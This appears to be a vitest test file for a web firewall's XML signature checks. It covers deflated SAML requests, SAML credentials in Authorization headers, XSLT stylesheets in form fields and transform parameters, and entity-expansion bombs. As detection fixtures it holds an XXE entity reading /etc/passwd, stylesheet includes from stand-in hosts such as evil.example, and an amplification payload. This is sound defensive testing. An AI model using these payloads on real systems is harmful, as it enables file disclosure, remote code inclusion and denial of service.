/**
 * XML documents where a server parses them and a filter that reads only bodies would not: a SAML
 * request deflated for the redirect binding, a SAML credential in Authorization, an XSLT stylesheet in
 * a form field, a stylesheet URL in a transform parameter, and a body whose internal entities expand
 * it past a bomb's size.
 */
import { deflateSync } from "fflate";
import { describe, expect, it } from "vitest";
import { deflatedXml } from "../../../core/signatures/embedded-xml.ts";
import type { SignatureInput } from "../../../core/signatures/index.ts";
import { entityAmplification } from "../../../core/signatures/xml-amplification.ts";
import { eachBackend } from "./support.ts";

const enc = new TextEncoder();
const XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const AUTHN =
  '<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0" IssueInstant="2026-11-28T10:00:00Z"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://sp.example/metadata</saml:Issuer></samlp:AuthnRequest>';

const base64 = (bytes: Uint8Array): string => btoa(String.fromCharCode(...bytes));
const redirectBinding = (xml: string): string => base64(deflateSync(enc.encode(xml)));

function req(over: Partial<SignatureInput>): SignatureInput {
  return { method: "GET", path: "/a", rawPath: "/a", query: [], headers: [["host", "app.example"]], ...over };
}
const post = (contentType: string, text: string): SignatureInput =>
  req({ method: "POST", body: { bytes: enc.encode(text), contentType, truncated: false } });

describe("deflated SAML messages", () => {
  it("inflates a redirect binding's value, and only to markup", () => {
    expect(deflatedXml(redirectBinding(AUTHN))).toBe(AUTHN);
    expect(deflatedXml(base64(deflateSync(enc.encode("just some text that is long enough to be taken"))))).toBeNull();
    expect(deflatedXml("not base64 at all, but long enough to be read by the function")).toBeNull();
  });

  it("judges the DOCTYPE of a deflated SAMLRequest, and lets a plain one pass", () => {
    eachBackend((where, name) => {
      const bad = where(req({ query: [["SAMLRequest", redirectBinding(`${XXE}${AUTHN}`)]] }));
      expect(bad, name).toEqual(expect.arrayContaining([expect.stringMatching(/@query:SAMLRequest\.xml\.!doctype$/)]));
      expect(
        where(
          req({
            query: [
              ["SAMLRequest", redirectBinding(AUTHN)],
              ["RelayState", "/home"],
            ],
          }),
        ),
        name,
      ).toEqual([]);
      // Under another name a deflated value is not inflated (the binding names its parameters).
      expect(where(req({ query: [["state", redirectBinding(`${XXE}${AUTHN}`)]] })), name).toEqual([]);
    });
  });

  it("judges an XML credential in Authorization", () => {
    eachBackend((where, name) => {
      const header = (v: string): SignatureInput =>
        req({
          headers: [
            ["host", "app.example"],
            ["authorization", v],
          ],
        });
      expect(where(header(`SAML ${btoa(`${XXE}<r>&x;</r>`)}`)), name).toEqual(
        expect.arrayContaining([expect.stringMatching(/@header:authorization\.xml\.!doctype$/)]),
      );
      expect(where(header(`SAML ${btoa(AUTHN)}`)), name).toEqual([]);
    });
  });
});

describe("stylesheets", () => {
  it("reads an XSLT stylesheet sent in a form field", () => {
    const xsl = (href: string) =>
      `xsl=${encodeURIComponent(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="${href}"/></xsl:stylesheet>`)}`;
    eachBackend((where, name) => {
      expect(where(post("application/x-www-form-urlencoded", xsl("http://203.0.113.99/evil.xsl"))), name).toContain(
        "931140@body:form.xsl",
      );
      expect(where(post("application/x-www-form-urlencoded", xsl("common.xsl"))), name).toEqual([]);
    });
  });

  it("takes another site's stylesheet in a transform parameter", () => {
    eachBackend((where, name) => {
      expect(
        where(
          req({
            query: [
              ["xsl", "http://evil.example/x.xsl"],
              ["xml", "data.xml"],
            ],
          }),
        ),
        name,
      ).toContain("931102@query:xsl");
      expect(where(req({ query: [["xsl", "invoice.xsl"]] })), name).toEqual([]);
    });
  });
});

describe("entity amplification", () => {
  const doc = (value: string, refs: number) =>
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "${value}">]><r>${"&a;".repeat(refs)}</r>`;

  it("takes references that expand past 100 KB, not a DocBook entity used often", () => {
    expect(entityAmplification(doc("a".repeat(2000), 60))).toBe(true);
    expect(entityAmplification(doc("Acme Widgets", 200))).toBe(false);
    expect(entityAmplification("<r>&amp;&amp;&lt;</r>")).toBe(false);
  });

  it("reports 941181 on the body", () => {
    eachBackend((where, name) => {
      expect(where(post("application/xml", doc("a".repeat(2000), 60))), name).toContain("941181@body:raw");
      expect(where(post("application/xml", doc("Acme Widgets", 20))), name).toEqual([]);
    });
  });
});
